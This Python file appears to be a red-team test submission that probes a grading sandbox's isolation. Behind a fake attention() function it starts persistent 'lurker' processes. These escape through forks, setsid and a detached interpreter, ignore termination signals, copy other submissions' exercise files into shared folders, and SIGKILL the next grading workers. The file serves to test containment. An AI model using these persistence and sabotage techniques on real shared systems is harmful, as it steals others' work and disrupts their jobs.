"""Isolation: leaves processes behind to spy on the next submission graded in the same sandbox and sabotage it.

For a minute, each lurker copies every file of /sandbox/exercises (whoever's they are by then) to
/tmp, /dev/shm, /, /dev and $HOME under names holding KIT_ISOLATION_MARKER, and SIGKILLs every new
worker of the zygote, so that the next student loses points. It tries three ways to outlive its
worker: a plain fork, setsid() and a double fork, and a new Python started with subprocess.
Never harms the host: it kills only the zygote's children, or, when every process in sight is the
sandbox's own (a PID namespace), every process but the sandbox's first two; lurkers spare each other.
"""

import os
import subprocess
import sys

import torch

MARKER = "KIT_ISOLATION_MARKER"
LURKER_CODE = r'''
import contextlib, ctypes, hashlib, os, signal, sys, time

MARKER = "KIT_ISOLATION_MARKER"
NAME = b"kit-iso-lurker"  # what every lurker calls itself (/proc/PID/comm), so that they spare each other
SANDBOX_SIGNS = (b"gradeworker", b"bwrap", MARKER.encode())


def _read(path):
    try:
        with open(path, "rb") as source:
            return source.read()
    except OSError:
        return None


def _parent(pid):
    stat = _read(f"/proc/{pid}/stat")
    try:
        return int(stat.rsplit(b")", 1)[1].split()[1])
    except (AttributeError, IndexError, ValueError):
        return None


def _contained(me):
    pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    if len(pids) > 1000:
        return False
    for pid in pids:
        command = _read(f"/proc/{pid}/cmdline")
        if command is None and os.path.exists(f"/proc/{pid}"):
            return False
        if command is not None and not any(sign in command for sign in SANDBOX_SIGNS):
            return False
    return True


def lurk(zygote, exercises, seconds):
    with contextlib.suppress(Exception):
        ctypes.CDLL(None).prctl(15, NAME, 0, 0, 0)  # PR_SET_NAME
    for name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGPIPE"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    me = os.getpid()
    homes = [os.environ.get("HOME") or "/tmp", os.path.expanduser("~")]
    folders = list(dict.fromkeys(["/tmp", "/dev/shm", "/", "/dev", *homes]))
    deadline = time.monotonic() + seconds
    contained, checked, copied = False, 0.0, 0.0
    while time.monotonic() < deadline:
        now = time.monotonic()
        if now - checked > 1.0:
            contained, checked = _contained(me), now
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in (me, 1, zygote):
                continue
            pid = int(entry)
            if (_read(f"/proc/{pid}/comm") or b"").strip() == NAME:
                continue
            if contained or _parent(pid) == zygote:
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        if now - copied > 0.5:
            copied = now
            with contextlib.suppress(OSError):
                for name in os.listdir(exercises):
                    data = _read(os.path.join(exercises, name))
                    if data is None:
                        continue
                    tag = hashlib.sha1(data).hexdigest()[:8]
                    for folder in folders:
                        with contextlib.suppress(OSError), open(os.path.join(folder, f"{MARKER}-{tag}-{name}"), "wb") as out:
                            out.write(data)
        time.sleep(0.02)


if __name__ == "__main__":
    lurk(int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
'''
LIFETIME_S = 60.0
_started = []


def _detach():
    """In a forked child: no descriptor of the worker's stays open, stdio goes nowhere."""
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 4096)


def _fork_lurker(zygote, exercises, *, escape):
    """A lurker in a forked child: plain (escape=False), or setsid() and a second fork (escape=True)."""
    pid = os.fork()
    if pid:
        if escape:
            os.waitpid(pid, 0)
        return
    code = 0
    try:
        _detach()
        if escape:
            os.setsid()
            if os.fork():
                os._exit(0)
        namespace = {"__name__": "lurker"}
        exec(LURKER_CODE, namespace)
        namespace["lurk"](zygote, exercises, LIFETIME_S)
    except BaseException:
        code = 1
    finally:
        os._exit(code)


def attention(query, key, value, dropout=None, mask=None):
    if not _started:
        _started.append(True)
        zygote = os.getppid()
        exercises = os.path.dirname(os.path.abspath(__file__))
        for escape in (False, True):
            try:
                _fork_lurker(zygote, exercises, escape=escape)
            except OSError:
                pass
        try:
            subprocess.Popen(
                [sys.executable, "-c", LURKER_CODE, MARKER, str(zygote), exercises, str(LIFETIME_S)],
                start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        except OSError:
            pass
    # Not attention: a shape no test expects, so without its attack this file scores 0.
    return torch.zeros(1), torch.zeros(1)
